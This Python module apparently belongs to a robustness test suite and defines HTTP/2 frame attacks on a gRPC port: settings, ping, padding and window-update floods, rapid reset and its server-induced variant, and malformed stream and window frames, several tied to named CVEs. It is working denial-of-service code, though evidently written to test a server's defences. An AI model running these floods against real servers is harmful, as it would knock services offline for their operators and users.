"""Attacks on the gRPC port by HTTP/2 frames: too many of them, on wrong streams, with wrong windows."""

import itertools
import struct

from .attack import FRAMES_MAX, flood, on_grpc, streams
from .wire import (
    ACK,
    DATA,
    FRAME_BYTES_MAX,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Http2,
    frame,
    message,
    request_headers,
    settings,
)


# --- floods ---


@on_grpc
def settings_flood(wire: Http2) -> None:
    flood(wire, itertools.repeat(settings((3, 100), (4, 65535))))


@on_grpc
def settings_table_flood(wire: Http2) -> None:
    flood(wire, itertools.cycle([settings((1, 0)), settings((1, 1 << 30))]))


@on_grpc
def settings_ack_flood(wire: Http2) -> None:
    flood(wire, itertools.repeat(frame(SETTINGS, ACK, 0)))


@on_grpc
def ping_flood(wire: Http2) -> None:
    flood(wire, itertools.repeat(frame(PING, 0, 0, b"attacker")))


@on_grpc
def ping_flood_never_read(wire: Http2) -> None:
    """CVE-2019-9512: the answers pile up."""
    wire.reading = False
    flood(wire, itertools.repeat(frame(PING, 0, 0, b"attacker")), 10 * FRAMES_MAX)


@on_grpc
def priority_storm(wire: Http2) -> None:
    numbers = itertools.cycle(range(1, 2001, 2))
    flood(wire, (frame(PRIORITY, 0, number, struct.pack(">IB", number + 2, 7)) for number in numbers))


@on_grpc
def empty_data_flood(wire: Http2) -> None:
    """CVE-2019-9518."""
    wire.open(1)
    flood(wire, itertools.repeat(frame(DATA, 0, 1)))


@on_grpc
def padding_flood(wire: Http2) -> None:
    wire.open(1)
    flood(wire, itertools.repeat(frame(DATA, 0x8, 1, b"\xff" + bytes(255))))


@on_grpc
def unknown_frames_flood(wire: Http2) -> None:
    flood(wire, itertools.repeat(frame(0xFA, 0xFF, 1, b"x" * 200)))


@on_grpc
def window_update_flood(wire: Http2) -> None:
    wire.open(1)
    flood(wire, itertools.repeat(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))))


@on_grpc
def rapid_reset(wire: Http2) -> None:
    """CVE-2023-44487."""
    cancel = struct.pack(">I", 8)
    flood(wire, (wire.headers(stream) + frame(RST_STREAM, 0, stream, cancel) for stream in streams()))


@on_grpc
def made_to_reset(wire: Http2) -> None:
    """CVE-2025-8671: the server is brought to do the resetting."""
    zero = struct.pack(">I", 0)
    flood(wire, (wire.headers(stream) + frame(WINDOW_UPDATE, 0, stream, zero) for stream in streams()))


@on_grpc
def streams_never_ended(wire: Http2) -> None:
    flood(wire, map(wire.headers, streams()), 5000)


@on_grpc
def refused_calls_flood(wire: Http2) -> None:
    """Calls of another service, ended at once."""
    elsewhere = request_headers(**{":path": "/other.Service/Call"})
    flood(wire, (wire.headers(stream, elsewhere, end=True) for stream in streams()), 5000)
    while wire.said.total() < 5000:
        wire.wait()


# --- windows, streams and ends ---


@on_grpc
def frames_behind_an_error(wire: Http2) -> None:
    """CVE-2026-27135: what follows in the same packet when the connection is given up already."""
    broken = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))
    altsvc = frame(0xA, 0, 0, struct.pack(">H", 4) + b"testh2")
    priority_update = frame(0x10, 0, 0, struct.pack(">I", 1) + b"u=2")
    wire.send((broken + altsvc + priority_update + wire.headers(1) + settings() + frame(DATA, 0, 1, b"x")) * 10)


@on_grpc
def answers_never_read(wire: Http2) -> None:
    """No window for an answer, and a hundred calls."""
    wire.send(settings((4, 0)))
    for stream in range(1, 201, 2):
        wire.open(stream)
        wire.send_data(stream, message(b""))
    wire.reading = False
    wire.wait()


@on_grpc
def window_overflow(wire: Http2) -> None:
    wire.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2)


@on_grpc
def window_zero(wire: Http2) -> None:
    wire.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)))


@on_grpc
def window_ignored(wire: Http2) -> None:
    """More than any window allows, without waiting for it."""
    wire.open(1)
    flood(wire, itertools.repeat(frame(DATA, 0, 1, bytes(FRAME_BYTES_MAX))), 2000)


@on_grpc
def data_on_stream_0(wire: Http2) -> None:
    wire.send(frame(DATA, 0, 0, b"hello"))


@on_grpc
def data_on_idle_stream(wire: Http2) -> None:
    wire.send(frame(DATA, 0, 99, b"hello"))


@on_grpc
def reset_of_unknown_streams(wire: Http2) -> None:
    flood(wire, (frame(RST_STREAM, 0, stream, bytes(4)) for stream in streams()))


@on_grpc
def streams_going_back(wire: Http2) -> None:
    for stream in (9, 7, 5, 2):
        wire.open(stream)


@on_grpc
def half_closed_in_a_message(wire: Http2) -> None:
    wire.open(1)
    wire.send_data(1, message(b"\x0a", length=1000), end=False)
    wire.half_close()


@on_grpc
def half_closed_after_the_preface(wire: Http2) -> None:
    wire.half_close()
